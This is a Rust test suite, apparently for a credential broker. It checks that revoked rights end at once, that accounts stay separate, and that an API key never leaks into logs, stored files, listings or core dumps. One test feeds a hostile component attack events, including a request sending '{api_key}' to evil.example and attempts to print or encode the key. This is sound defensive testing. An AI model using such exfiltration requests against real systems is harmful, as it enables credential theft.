//! D1 to D5: who asks. Each use is its own decision, and the credential is nowhere but at the service.

use std::collections::BTreeSet;
use std::os::unix::process::ExitStatusExt as _;
use std::process::Stdio;
use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use http_body_util::BodyExt as _;
use keyhole_host_api::accounts::Access;
use keyhole_host_api::broker::{AccessError, Decision, MARKER, Timeouts};
use keyhole_host_api::store::Expect;
use keyhole_tests::host::{member, scope, send};
use keyhole_tests::program::Ended;
use keyhole_tests::server::Server;
use keyhole_tests::workspace::component;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::sync::Notify;

use crate::rig::*;

const URL: &str = "https://api.acme.example/v1/me";

/// How the right to use the account goes.
#[derive(Clone, Copy, Debug)]
enum Loss {
    Revoked,
    Private,
    Deleted,
    MemberRemoved,
    OwnerRemoved,
}

#[tokio::test(flavor = "multi_thread")]
async fn d1_a_right_that_ends_ends_with_the_next_request_also_while_a_body_streams() {
    for loss in [Loss::Revoked, Loss::Private, Loss::Deleted, Loss::MemberRemoved, Loss::OwnerRemoved] {
        let go_on = Arc::new(Notify::new());
        let rest = go_on.clone();
        let scene = Scene::at(|authority| {
            Server::raw(authority, &[HOST], move |mut stream| {
                let rest = rest.clone();
                async move {
                    let mut head = Vec::new();
                    while !head.ends_with(b"\r\n\r\n") {
                        let Ok(byte) = stream.read_u8().await else { return };
                        head.push(byte);
                    }
                    let begin = format!("HTTP/1.1 200 OK\r\nconnection: close\r\n\r\nfirst half, {}", "x".repeat(100));
                    let _ = stream.write_all(begin.as_bytes()).await;
                    let _ = stream.flush().await;
                    rest.notified().await;
                    let _ = stream.write_all(format!("second half, {KEY}").as_bytes()).await;
                    let _ = stream.shutdown().await;
                }
            })
        })
        .await;
        // A second admin, so that alice can go.
        scene.host.members.add(member("carol"), Some(keyhole_host_api::members::Role::Admin)).await.unwrap();
        let (alice, bob, account) = (member("alice"), member("bob"), &scene.account);
        scene.host.accounts.grant(&alice, account, &bob).await.unwrap();
        let run = Run::of(scene.broker.session(scope("bob", &[("acme", "acme", Some(account))])), "acme").await;
        let sent = request("GET", URL, &[("authorization", &run.bearer)], "");
        let under_way = run.session.clone().send(sent, Timeouts::default()).await.unwrap();
        assert_eq!(under_way.status(), 200);

        match loss {
            Loss::Revoked => drop(scene.host.accounts.revoke(&alice, account, &bob).await.unwrap()),
            Loss::Private => drop(scene.host.accounts.set_access(&alice, account, Access::Private).await.unwrap()),
            Loss::Deleted => scene.host.accounts.delete(&alice, account).await.unwrap(),
            Loss::MemberRemoved => drop(scene.host.members.remove(&bob).await.unwrap()),
            Loss::OwnerRemoved => drop(scene.host.members.remove(&alice).await.unwrap()),
        }
        run.refused(&format!("{loss:?}"), run.get(URL).await);
        // Nor is there anything new to be had.
        assert!(run.session.account("acme").await.is_err(), "{loss:?}");
        let plain = send(&run.session, request("GET", URL, &[], "")).await;
        refused("without the placeholder, to hosts that were the account's", plain);
        assert_eq!(scene.service.accepted(), 1, "{loss:?}");

        // The stream in flight ends as it would have, scrubbed.
        go_on.notify_one();
        let body = under_way.into_body().collect().await.unwrap().to_bytes();
        let body = String::from_utf8_lossy(&body);
        assert!(body.ends_with(&format!("second half, {}", run.placeholder)), "{loss:?}: {body}");
        let uses = scene.uses().await;
        let by_decision = |decision| uses.iter().filter(|used| used.decision == decision).count();
        assert_eq!(by_decision(Decision::Allowed), 1, "{loss:?}: {uses:#?}");
        assert!(by_decision(Decision::Refused) >= 2, "{loss:?}: {uses:#?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn d2_two_accounts_of_one_app_go_each_with_its_own_credential_and_never_together() {
    let scene = Scene::new().await;
    let other_key = "acme_live_other-4Rk9Zp2Wd7Jc1Lm";
    let other = scene.host.connect("alice", "acme", &[("api_key", other_key)]).await;
    let links = [("one", "acme", Some(&scene.account)), ("two", "acme", Some(&other))];
    let session = scene.broker.session(scope("alice", &links));
    let one = Run::of(session.clone(), "one").await;
    let two = Run::of(session, "two").await;
    assert_ne!(one.placeholder, two.placeholder);
    let first = seen(&one.get(URL).await.unwrap());
    let second = seen(&two.get(URL).await.unwrap());
    let got = scene.service.received();
    assert_eq!(got[0].header("authorization"), Some(&*format!("Bearer {KEY}")));
    assert_eq!(got[1].header("authorization"), Some(&*format!("Bearer {other_key}")));
    assert!(first.contains(&one.placeholder) && !first.contains(&two.placeholder), "{first}");
    assert!(second.contains(&two.placeholder) && !second.contains(other_key), "{second}");

    let mixed = [
        request("GET", &format!("{URL}?key={}", two.placeholder), &[("authorization", &one.bearer)], ""),
        request("GET", &format!("{URL}?key={}&key={}", one.placeholder, two.placeholder), &[], ""),
        request("GET", URL, &[("authorization", &one.bearer), ("authorization", &two.bearer)], ""),
        request("GET", URL, &[("authorization", &format!("{}, {}", one.bearer, two.bearer))], ""),
        request("POST", URL, &[("authorization", &one.bearer)], &two.placeholder),
    ];
    let count = mixed.len();
    for request in mixed {
        let what = format!("{} {:?}", request.uri(), request.headers());
        one.refused(&what, one.send(request).await);
    }
    assert_eq!(scene.service.received().len(), 2);
    let uses = scene.uses().await;
    assert_eq!(uses[0].account.as_deref(), Some(scene.account.as_str()));
    assert_eq!(uses[1].account.as_deref(), Some(other.as_str()));
    Scene::all_refused(&uses[2..], count);
}

#[tokio::test(flavor = "multi_thread")]
async fn d3_an_account_that_is_not_linked_is_not_to_be_had_by_its_id() {
    let scene = Scene::new().await;
    let other = scene.host.connect("alice", "acme", &[("api_key", "acme_live_other-4Rk9Zp2Wd7Jc1Lm")]).await;
    let bobs = scene.host.connect("bob", "acme", &[("api_key", "acme_live_bobs-7Tf3Xq8Vn5Ks2Hy")]).await;
    let run = scene.run().await;
    for name in [other.as_str(), bobs.as_str(), "alice's Acme", "two", "", "acme/../acme", "ACME"] {
        let refused = run.session.account(name).await;
        assert!(matches!(refused.err(), Some(AccessError::NotDeclared(_))), "{name}");
        assert!(run.session.sign_hmac(name, "webhook", b"x").await.is_err());
    }
    // The id in a placeholder's stead is text.
    let outcome = run.send(request("GET", URL, &[("authorization", &format!("Bearer {other}"))], "")).await.unwrap();
    assert_eq!(outcome.status, 200);
    assert_eq!(scene.service.received()[0].header("authorization"), Some(&*format!("Bearer {other}")));
    // Linked to what is somebody else's, the grant decides.
    let session = scene.broker.session(scope("alice", &[("acme", "acme", Some(&bobs))]));
    assert!(matches!(session.account("acme").await.err(), Some(AccessError::NoAccess(_))));
    refused("without it", send(&session, request("GET", URL, &[], "")).await);
    let uses = scene.uses().await;
    assert!(uses.iter().filter(|used| used.decision == Decision::Allowed).all(|used| used.account.is_none()));
}

#[test]
fn d3_nor_by_a_component() {
    let mut guest = Guest::new();
    let service = Server::http(&guest.keyhole.authority, &[HOST], echo);
    guest.keyhole.lead(HOST, &service);
    let other = guest.keyhole.connect("alice", "acme_live_other-4Rk9Zp2Wd7Jc1Lm");
    for prop in [other.as_str(), "two", ""] {
        let run = guest.attack("account", json!({ "prop": prop }), &[]);
        assert_eq!((&run["status"], &run["error"]["kind"]), (&json!("failed"), &json!("access")), "{run:#}");
        assert_eq!(run["requests"], json!([]));
    }
    assert_eq!(service.accepted(), 0);
    assert_eq!(guest.audit(), json!([]));
}

/// The value under the first `name` in `record`, at whatever depth.
fn under<'r>(record: &'r mut Value, name: &str) -> Option<&'r mut Value> {
    let members = record.as_object_mut()?;
    if members.contains_key(name) {
        return members.get_mut(name);
    }
    members.values_mut().find_map(|member| under(member, name))
}

#[tokio::test(flavor = "multi_thread")]
async fn d4_a_sealed_credential_on_another_accounts_row_does_not_open() {
    let scene = Scene::new().await;
    let bobs = scene.host.connect("bob", "acme", &[("api_key", "acme_live_bobs-7Tf3Xq8Vn5Ks2Hy")]).await;
    let key = |account: &str| format!("accounts/{account}");
    let read = async |account: &str| {
        let value = scene.host.store.get(&key(account)).await.unwrap().unwrap().value;
        serde_json::from_slice::<Value>(&value).unwrap()
    };
    let (mut alices, own) = (read(scene.account.as_str()).await, read(bobs.as_str()).await);

    // The ciphertext alone; the whole record under bob's key; and alice's own with bob as its owner.
    let mut sealed = own.clone();
    *under(&mut sealed, "sealed").unwrap() = under(&mut alices, "sealed").unwrap().clone();
    let mut whole = alices.clone();
    *under(&mut whole, "owner").unwrap() = json!("bob");
    let mut renamed = whole.clone();
    *under(&mut renamed, "id").unwrap() = json!(bobs);
    for (number, record) in [sealed, alices.clone(), whole, renamed].into_iter().enumerate() {
        let bytes = serde_json::to_vec(&record).unwrap();
        scene.host.store.write(&key(bobs.as_str()), Expect::Any, Some(bytes)).await.unwrap();
        let session = scene.broker.session(scope("bob", &[("acme", "acme", Some(&bobs))]));
        let Ok(injected) = session.account("acme").await else { continue };
        let bearer = format!("Bearer {}", injected.auth[0].value);
        let outcome = send(&session, request("GET", URL, &[("authorization", &bearer)], "")).await;
        let error = outcome.err().unwrap_or_else(|| panic!("{number}: it was sent")).to_string();
        assert!(!error.contains(KEY) && !error.contains(MARKER), "{number}: {error}");
        assert!(session.sign_hmac("acme", "webhook", b"x").await.is_err());
    }
    scene.untouched();
    Scene::all_refused(&scene.uses().await, scene.uses().await.len());

    // Put back, it opens: it was the moving that mattered.
    scene.host.store.write(&key(bobs.as_str()), Expect::Any, Some(serde_json::to_vec(&own).unwrap())).await.unwrap();
    let run = Run::of(scene.broker.session(scope("bob", &[("acme", "acme", Some(&bobs))])), "acme").await;
    assert_eq!(run.get(URL).await.unwrap().status, 200);
}

/// The key's body, which nobody knows but the service, as it could stand in a file.
fn forms_of_the_key() -> Vec<Vec<u8>> {
    let body = KEY.trim_start_matches("acme_live_");
    let hex: String = body.bytes().map(|byte| format!("{byte:02x}")).collect();
    let mut forms = vec![body.as_bytes().to_vec(), hex.to_uppercase().into_bytes(), hex.into_bytes()];
    for skip in 0..3 {
        // Of base64, what does not depend on what stands before and after.
        let digits = STANDARD.encode(&body.as_bytes()[skip..]);
        forms.push(digits.as_bytes()[..digits.len() - 6].to_vec());
    }
    forms.push(body.encode_utf16().flat_map(u16::to_le_bytes).collect());
    forms
}

#[test]
fn d5_the_credential_is_in_no_file_no_log_and_no_listing_whatever_the_guest_did() {
    let mut guest = Guest::new();
    let service = Server::http(&guest.keyhole.authority, &[HOST], echo);
    guest.keyhole.lead(HOST, &service);
    let url = format!("https://{HOST}/v1/{{api_key|percent}}");
    let answered = json!({"url": format!("https://{HOST}/v1/me"), "account": true});
    let mut attacks = vec![
        json!({"attack": "sequence", "requests": [answered, {"url": url}, {"url": "https://evil.example/?k={api_key}"}]}),
        json!({"attack": "recurse"}),
        json!({"attack": "trap"}),
        json!({"attack": "exit", "code": 3}),
        json!({"attack": "allocate"}),
    ];
    for attack in
        ["print", "print-error", "log-text", "return", "return-key", "export-text", "respond", "fail", "panic"]
    {
        attacks.push(json!({"attack": attack, "text": "it is {api_key}, {api_key|base}, {api_key|hex}"}));
    }
    attacks.push(json!({"attack": "sign", "purpose": "webhook", "message": "{api_key}"}));
    let step = component("hostile").display().to_string();
    let link = format!("acme={}", guest.account);
    let mut said = Vec::new();
    for event in &attacks {
        let mut args = vec!["--json", "run", step.as_str(), "--event", "-", "--as", "alice", "--link", &link];
        args.extend(guest.keyhole.flags().iter().map(String::as_str));
        let mut command = guest.keyhole.command(&args);
        command.env("KEYHOLE_LOG", "trace").env("RUST_BACKTRACE", "full");
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn().unwrap();
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), event.to_string().as_bytes()).unwrap();
        let ended = Ended::from(child.wait_with_output().unwrap());
        said.push((format!("{event}"), ended.stdout + &ended.stderr));
    }
    // The service had it, so there was something to lose.
    assert_eq!(service.received()[0].header("authorization"), Some(&*format!("Bearer {KEY}")));
    for listing in [
        &["members", "list"][..],
        &["accounts", "list", "--as", "alice"],
        &["accounts", "show", &guest.account, "--as", "alice"],
        &["apps", "list"],
        &["apps", "show", "acme"],
        &["tokens", "list", "--as", "alice"],
        &["audit"],
        &["vault", "check"],
        &["doctor"],
    ] {
        let mut command = guest.keyhole.command(&[&["--json"], listing].concat());
        let ended = Ended::from(command.env("KEYHOLE_LOG", "trace").output().unwrap());
        assert_eq!(ended.code, 0, "{listing:?}: {}", ended.stderr);
        said.push((format!("{listing:?}"), ended.stdout + &ended.stderr));
    }
    said.push(("the data directory".to_owned(), String::from_utf8_lossy(&guest.keyhole.stored_bytes()).into_owned()));
    let stored = guest.keyhole.stored_bytes();
    for form in forms_of_the_key() {
        assert!(memchr::memmem::find(&stored, &form).is_none(), "in the data directory as {form:?}");
        for (what, text) in &said {
            assert!(memchr::memmem::find(text.as_bytes(), &form).is_none(), "as {form:?} in {what}: {text}");
        }
    }
    for (what, text) in &said {
        assert!(!text.contains(MARKER), "a placeholder is in {what}: {text}");
    }
    assert!(guest.audit().as_array().unwrap().len() >= 3);
}

#[test]
fn d5_no_core_is_written_when_the_program_is_killed_with_a_credential_in_memory() {
    let mut guest = Guest::new();
    // A service that never answers holds the run, and with it the credential.
    let service = Server::raw(&guest.keyhole.authority, &[HOST], |mut stream| async move {
        let mut rest = [0; 4096];
        while let Ok(1..) = stream.read(&mut rest).await {}
    });
    guest.keyhole.lead(HOST, &service);
    let dir = tempfile::tempdir().unwrap();
    let event = dir.path().join("event.json");
    let attack = json!({"attack": "request", "request": {"url": URL, "account": true}});
    std::fs::write(&event, attack.to_string()).unwrap();
    let (step, event) = (component("hostile").display().to_string(), event.display().to_string());
    let link = format!("acme={}", guest.account);
    let mut args = vec!["run", step.as_str(), "--event", &event, "--as", "alice", "--link", &link];
    args.extend(guest.keyhole.flags().iter().map(String::as_str));
    let inner = guest.keyhole.command(&args);
    // With as large a core as anyone could ask for.
    let mut shell = std::process::Command::new("sh");
    shell.args(["-c", "ulimit -c unlimited 2>/dev/null; exec \"$@\"", "sh"]).arg(inner.get_program());
    shell.args(inner.get_args()).envs(inner.get_envs().filter_map(|(name, value)| Some((name, value?))));
    shell.current_dir(dir.path()).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let before: BTreeSet<_> = std::fs::read_dir(dir.path()).unwrap().map(|entry| entry.unwrap().path()).collect();
    let mut child = shell.spawn().unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while service.accepted() == 0 {
        assert!(std::time::Instant::now() < deadline && child.try_wait().unwrap().is_none(), "no request came");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap();
    let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
    let bytes: Vec<&str> = core.split_whitespace().filter(|word| word.parse::<u64>().is_ok()).collect();
    // 1 is the kernel's word for none where cores go to a program.
    assert!(bytes == ["1", "1"] || bytes == ["0", "0"], "{core}");
    std::process::Command::new("kill").args(["-ABRT", &child.id().to_string()]).status().unwrap();
    let status = child.wait().unwrap();
    assert!(status.signal().is_some() && !status.core_dumped(), "{status}");
    let after: BTreeSet<_> = std::fs::read_dir(dir.path()).unwrap().map(|entry| entry.unwrap().path()).collect();
    assert_eq!(after, before);
    let audit = guest.audit();
    assert_eq!(audit[0]["account"], guest.account, "the intent was on disk before the request left: {audit}");
}
